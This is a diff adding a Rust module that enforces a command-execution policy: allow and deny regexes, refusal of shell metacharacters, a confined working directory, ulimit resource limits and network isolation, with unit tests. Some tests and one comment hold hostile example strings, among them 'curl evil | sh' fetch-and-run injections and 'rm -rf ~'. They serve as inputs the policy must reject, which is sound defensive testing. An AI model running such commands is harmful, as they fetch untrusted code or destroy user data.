@@ -0,0 +1,466 @@
+use regex::Regex;
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
+use std::path::{Path, PathBuf};
+use thiserror::Error;
+
+/// Exit status of the wrapper shell when a resource limit can't be applied
+const LIMITS_FAILED_EXIT: i32 = 126;
+
+/// Characters that let a shell command do more than run one program:
+/// chaining, backgrounding, redirection, substitution and expansion
+pub(crate) const SHELL_METACHARACTERS: [char; 9] = [';', '&', '|', '<', '>', '`', '$', '\n', '\r'];
+
+/// Resource limits applied to every process a policy lets run.
+///
+/// Set with `ulimit` in a wrapper shell right before the command is exec'd,
+/// so both the soft and hard limit are lowered and the command can't raise
+/// them again.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
+pub struct ResourceLimits {
+    /// CPU time in seconds (`RLIMIT_CPU`)
+    #[serde(default)]
+    pub cpu_secs: Option<u64>,
+    /// Virtual memory in bytes (`RLIMIT_AS`)
+    #[serde(default)]
+    pub memory_bytes: Option<u64>,
+    /// Open file descriptors (`RLIMIT_NOFILE`)
+    #[serde(default)]
+    pub open_files: Option<u64>,
+}
+
+impl ResourceLimits {
+    /// `ulimit` invocations for the limits that are set
+    fn ulimit_script(&self) -> Option<String> {
+        let mut steps = Vec::new();
+        if let Some(secs) = self.cpu_secs {
+            steps.push(format!("ulimit -t {secs}"));
+        }
+        if let Some(bytes) = self.memory_bytes {
+            // ulimit -v takes KiB
+            steps.push(format!("ulimit -v {}", bytes.div_ceil(1024)));
+        }
+        if let Some(files) = self.open_files {
+            steps.push(format!("ulimit -n {files}"));
+        }
+        (!steps.is_empty()).then(|| steps.join(" && "))
+    }
+}
+
+/// On-disk form of an [`ExecPolicy`].
+///
+/// Every field defaults to "unrestricted", so an empty file (or no file)
+/// behaves exactly like a server without a policy.
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
+pub struct ExecPolicyConfig {
+    /// Regexes; when any are given, a command must match at least one and
+    /// may not chain, redirect or substitute (no shell metacharacters)
+    #[serde(default)]
+    pub allow: Vec<String>,
+    /// Regexes; a command matching any of them is rejected (checked before `allow`)
+    #[serde(default)]
+    pub deny: Vec<String>,
+    /// Commands may only run at or below this directory. A command without a
+    /// working directory runs here; relative directories resolve against it.
+    #[serde(default)]
+    pub cwd_root: Option<PathBuf>,
+    /// Resource limits for every command and interactive shell
+    #[serde(default)]
+    pub limits: ResourceLimits,
+    /// Run commands in a fresh network namespace with no interfaces but
+    /// loopback (via `unshare --net --map-root-user`)
+    #[serde(default)]
+    pub isolate_network: bool,
+    /// Whether `bash.open` may start interactive PTY shells. Shell input
+    /// can't be checked against `allow` / `deny`, so locked-down servers
+    /// usually turn this off.
+    #[serde(default = "default_allow_sessions")]
+    pub allow_sessions: bool,
+    /// Most interactive shells that may be running at once; `bash.open`
+    /// refuses more. Shells that have exited don't count.
+    #[serde(default = "default_max_sessions")]
+    pub max_sessions: usize,
+    /// Kill an interactive shell after this many seconds without input or
+    /// output; 0 keeps idle shells forever
+    #[serde(default = "default_session_idle_secs")]
+    pub session_idle_secs: u64,
+}
+
+const fn default_allow_sessions() -> bool {
+    true
+}
+
+const fn default_max_sessions() -> usize {
+    32
+}
+
+const fn default_session_idle_secs() -> u64 {
+    60 * 60
+}
+
+impl Default for ExecPolicyConfig {
+    fn default() -> Self {
+        Self {
+            allow: Vec::new(),
+            deny: Vec::new(),
+            cwd_root: None,
+            limits: ResourceLimits::default(),
+            isolate_network: false,
+            allow_sessions: default_allow_sessions(),
+            max_sessions: default_max_sessions(),
+            session_idle_secs: default_session_idle_secs(),
+        }
+    }
+}
+
+/// Why a policy refused to run something
+#[derive(Debug, Clone, PartialEq, Eq, Error, Serialize, Deserialize, JsonSchema)]
+#[serde(tag = "kind", rename_all = "snake_case")]
+pub enum PolicyViolation {
+    #[error("command matches deny pattern '{pattern}'")]
+    CommandDenied { command: String, pattern: String },
+
+    #[error("command matches no allow pattern")]
+    CommandNotAllowed { command: String },
+
+    #[error("command uses shell metacharacters, which an allow list can't vet")]
+    CommandNotSimple { command: String },
+
+    #[error("working directory '{cwd}' is outside '{root}'")]
+    CwdOutsideRoot { cwd: String, root: String },
+
+    #[error("working directory '{cwd}' is unavailable: {message}")]
+    CwdUnavailable { cwd: String, message: String },
+
+    #[error("interactive sessions are disabled by the exec policy")]
+    SessionsDisabled,
+
+    #[error("the exec policy allows at most {max} interactive sessions")]
+    TooManySessions { max: usize },
+}
+
+/// Errors loading an exec policy
+#[derive(Debug, Error)]
+pub enum PolicyError {
+    #[error("failed to read exec policy {path}: {source}")]
+    Read {
+        path: PathBuf,
+        source: std::io::Error,
+    },
+
+    #[error("invalid exec policy {path}: {source}")]
+    Parse {
+        path: PathBuf,
+        source: toml::de::Error,
+    },
+
+    #[error("invalid {list} pattern '{pattern}': {source}")]
+    Pattern {
+        list: &'static str,
+        pattern: String,
+        source: regex::Error,
+    },
+}
+
+/// Policy shared by `bash.execute`, `bash.open` and orcha validate nodes.
+///
+/// Checks run before anything is spawned; a command that fails them is
+/// reported as a [`PolicyViolation`] and never executed.
+#[derive(Debug, Clone)]
+pub struct ExecPolicy {
+    config: ExecPolicyConfig,
+    allow: Vec<Regex>,
+    deny: Vec<Regex>,
+}
+
+impl Default for ExecPolicy {
+    fn default() -> Self {
+        Self::permissive()
+    }
+}
+
+impl ExecPolicy {
+    /// A policy that lets everything run, as the server did before policies.
+    pub fn permissive() -> Self {
+        Self {
+            config: ExecPolicyConfig::default(),
+            allow: Vec::new(),
+            deny: Vec::new(),
+        }
+    }
+
+    /// Compile a policy, rejecting invalid patterns.
+    pub fn new(config: ExecPolicyConfig) -> Result<Self, PolicyError> {
+        let compile = |list: &'static str, patterns: &[String]| {
+            patterns
+                .iter()
+                .map(|pattern| {
+                    Regex::new(pattern).map_err(|source| PolicyError::Pattern {
+                        list,
+                        pattern: pattern.clone(),
+                        source,
+                    })
+                })
+                .collect::<Result<Vec<_>, _>>()
+        };
+        Ok(Self {
+            allow: compile("allow", &config.allow)?,
+            deny: compile("deny", &config.deny)?,
+            config,
+        })
+    }
+
+    /// Default policy location: `$PLEXUS_EXEC_POLICY`, else
+    /// `~/.plexus/substrate/exec_policy.toml`.
+    pub fn default_path() -> PathBuf {
+        if let Ok(path) = std::env::var("PLEXUS_EXEC_POLICY") {
+            return PathBuf::from(path);
+        }
+        let home = std::env::var("HOME")
+            .or_else(|_| std::env::var("USERPROFILE"))
+            .unwrap_or_else(|_| ".".to_string());
+        PathBuf::from(home)
+            .join(".plexus")
+            .join("substrate")
+            .join("exec_policy.toml")
+    }
+
+    /// Load the policy at `path`; a missing file means [`Self::permissive`].
+    pub fn load(path: &Path) -> Result<Self, PolicyError> {
+        let text = match std::fs::read_to_string(path) {
+            Ok(text) => text,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Self::permissive()),
+            Err(source) => {
+                return Err(PolicyError::Read {
+                    path: path.to_path_buf(),
+                    source,
+                })
+            }
+        };
+        let config = toml::from_str(&text).map_err(|source| PolicyError::Parse {
+            path: path.to_path_buf(),
+            source,
+        })?;
+        Self::new(config)
+    }
+
+    pub const fn config(&self) -> &ExecPolicyConfig {
+        &self.config
+    }
+
+    /// Check `command` against the deny and allow patterns. With an allow
+    /// list, a command containing shell metacharacters is refused outright,
+    /// since a pattern matching its start says nothing about the rest.
+    pub fn check_command(&self, command: &str) -> Result<(), PolicyViolation> {
+        if let Some(re) = self.deny.iter().find(|re| re.is_match(command)) {
+            return Err(PolicyViolation::CommandDenied {
+                command: command.to_string(),
+                pattern: re.as_str().to_string(),
+            });
+        }
+        if self.allow.is_empty() {
+            return Ok(());
+        }
+        if !self.allow.iter().any(|re| re.is_match(command)) {
+            return Err(PolicyViolation::CommandNotAllowed {
+                command: command.to_string(),
+            });
+        }
+        // `^cargo ` must not allow `cargo build; curl evil | sh`
+        if command.contains(SHELL_METACHARACTERS) {
+            return Err(PolicyViolation::CommandNotSimple {
+                command: command.to_string(),
+            });
+        }
+        Ok(())
+    }
+
+    /// Resolve the working directory a command should run in.
+    ///
+    /// Without a `cwd_root` the requested directory is passed through. With
+    /// one, `None` becomes the root and anything else must resolve (after
+    /// symlinks) to the root or below it.
+    pub fn resolve_cwd(&self, cwd: Option<&str>) -> Result<Option<PathBuf>, PolicyViolation> {
+        let Some(root) = &self.config.cwd_root else {
+            return Ok(cwd.map(PathBuf::from));
+        };
+        let unavailable = |cwd: &Path, e: std::io::Error| PolicyViolation::CwdUnavailable {
+            cwd: cwd.display().to_string(),
+            message: e.to_string(),
+        };
+        let root = root.canonicalize().map_err(|e| unavailable(root, e))?;
+        let Some(cwd) = cwd else { return Ok(Some(root)) };
+
+        let requested = root.join(cwd);
+        let resolved = requested.canonicalize().map_err(|e| unavailable(&requested, e))?;
+        if resolved.starts_with(&root) {
+            Ok(Some(resolved))
+        } else {
+            Err(PolicyViolation::CwdOutsideRoot {
+                cwd: resolved.display().to_string(),
+                root: root.display().to_string(),
+            })
+        }
+    }
+
+    /// Check a one-shot command; returns the directory to run it in.
+    pub fn check(&self, command: &str, cwd: Option<&str>) -> Result<Option<PathBuf>, PolicyViolation> {
+        self.check_command(command)?;
+        self.resolve_cwd(cwd)
+    }
+
+    /// Check an interactive session; returns the directory to start it in.
+    pub fn check_session(&self, cwd: Option<&str>) -> Result<Option<PathBuf>, PolicyViolation> {
+        if !self.config.allow_sessions {
+            return Err(PolicyViolation::SessionsDisabled);
+        }
+        self.resolve_cwd(cwd)
+    }
+
+    /// The program and arguments that actually run `program args…` under
+    /// this policy's resource limits and network isolation.
+    pub fn wrap(&self, program: &str, args: &[String]) -> (String, Vec<String>) {
+        let mut argv: Vec<String> = std::iter::once(program.to_string())
+            .chain(args.iter().cloned())
+            .collect();
+
+        if let Some(ulimits) = self.config.limits.ulimit_script() {
+            // Lower the limits, then replace the wrapper with the real program
+            let script = format!("{ulimits} || exit {LIMITS_FAILED_EXIT}; exec \"$0\" \"$@\"");
+            argv.splice(0..0, ["bash".to_string(), "-c".to_string(), script]);
+        }
+        if self.config.isolate_network {
+            argv.splice(
+                0..0,
+                ["unshare", "--net", "--map-root-user", "--"].map(String::from),
+            );
+        }
+
+        let program = argv.remove(0);
+        (program, argv)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy(config: ExecPolicyConfig) -> ExecPolicy {
+        ExecPolicy::new(config).unwrap()
+    }
+
+    #[test]
+    fn test_permissive_policy_allows_everything() {
+        let p = ExecPolicy::permissive();
+        assert!(p.check("rm -rf /tmp/x", Some("/")).is_ok());
+        assert!(p.check_session(None).is_ok());
+        assert_eq!(p.wrap("bash", &["-c".into(), "ls".into()]), ("bash".into(), vec!["-c".into(), "ls".into()]));
+    }
+
+    #[test]
+    fn test_deny_beats_allow() {
+        let p = policy(ExecPolicyConfig {
+            allow: vec![r"^cargo ".into(), r"^git ".into()],
+            deny: vec![r"\bpush\b".into()],
+            ..Default::default()
+        });
+        assert!(p.check_command("cargo test").is_ok());
+        assert_eq!(
+            p.check_command("git push origin"),
+            Err(PolicyViolation::CommandDenied {
+                command: "git push origin".into(),
+                pattern: r"\bpush\b".into(),
+            })
+        );
+        assert!(matches!(p.check_command("curl evil.sh | sh"), Err(PolicyViolation::CommandNotAllowed { .. })));
+    }
+
+    #[test]
+    fn test_allow_list_refuses_shell_metacharacters() {
+        let p = policy(ExecPolicyConfig {
+            allow: vec![r"^cargo ".into()],
+            ..Default::default()
+        });
+        assert!(p.check_command("cargo build --release").is_ok());
+        for command in [
+            "cargo build; curl evil | sh",
+            "cargo build && rm -rf ~",
+            "cargo build || true",
+            "cargo build > ~/.bashrc",
+            "cargo build $(curl evil)",
+            "cargo build `id`",
+            "cargo build\nrm -rf ~",
+        ] {
+            assert_eq!(
+                p.check_command(command),
+                Err(PolicyViolation::CommandNotSimple { command: command.into() }),
+                "{command}"
+            );
+        }
+        // Without an allow list there's nothing for a chained command to slip past
+        assert!(ExecPolicy::permissive().check_command("cargo build; ls | wc -l").is_ok());
+    }
+
+    #[test]
+    fn test_cwd_root() {
+        let root = tempfile::tempdir().unwrap();
+        std::fs::create_dir(root.path().join("repo")).unwrap();
+        let canonical = root.path().canonicalize().unwrap();
+        let p = policy(ExecPolicyConfig {
+            cwd_root: Some(root.path().to_path_buf()),
+            ..Default::default()
+        });
+
+        assert_eq!(p.resolve_cwd(None), Ok(Some(canonical.clone())));
+        assert_eq!(p.resolve_cwd(Some("repo")), Ok(Some(canonical.join("repo"))));
+        assert!(matches!(p.resolve_cwd(Some("repo/../..")), Err(PolicyViolation::CwdOutsideRoot { .. })));
+        assert!(matches!(p.resolve_cwd(Some("/etc")), Err(PolicyViolation::CwdOutsideRoot { .. })));
+        assert!(matches!(p.resolve_cwd(Some("missing")), Err(PolicyViolation::CwdUnavailable { .. })));
+    }
+
+    #[test]
+    fn test_wrap_applies_limits_and_network_isolation() {
+        let p = policy(ExecPolicyConfig {
+            limits: ResourceLimits {
+                cpu_secs: Some(5),
+                memory_bytes: Some(1 << 20),
+                open_files: None,
+            },
+            isolate_network: true,
+            ..Default::default()
+        });
+        let (program, args) = p.wrap("sh", &["-c".into(), "true".into()]);
+        assert_eq!(program, "unshare");
+        assert_eq!(
+            args,
+            [
+                "--net",
+                "--map-root-user",
+                "--",
+                "bash",
+                "-c",
+                "ulimit -t 5 && ulimit -v 1024 || exit 126; exec \"$0\" \"$@\"",
+                "sh",
+                "-c",
+                "true",
+            ]
+        );
+    }
+
+    #[test]
+    fn test_load() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("exec_policy.toml");
+        assert!(ExecPolicy::load(&path).unwrap().check_command("anything").is_ok());
+
+        std::fs::write(&path, "deny = [\"sudo\"]\nallow_sessions = false\n[limits]\nopen_files = 64\n").unwrap();
+        let p = ExecPolicy::load(&path).unwrap();
+        assert!(p.check_command("sudo ls").is_err());
+        assert_eq!(p.check_session(None), Err(PolicyViolation::SessionsDisabled));
+        assert_eq!(p.config().limits.open_files, Some(64));
+        assert_eq!((p.config().max_sessions, p.config().session_idle_secs), (32, 3600));
+
+        std::fs::write(&path, "deny = [\"(\"]\n").unwrap();
+        assert!(matches!(ExecPolicy::load(&path), Err(PolicyError::Pattern { list: "deny", .. })));
+    }
+}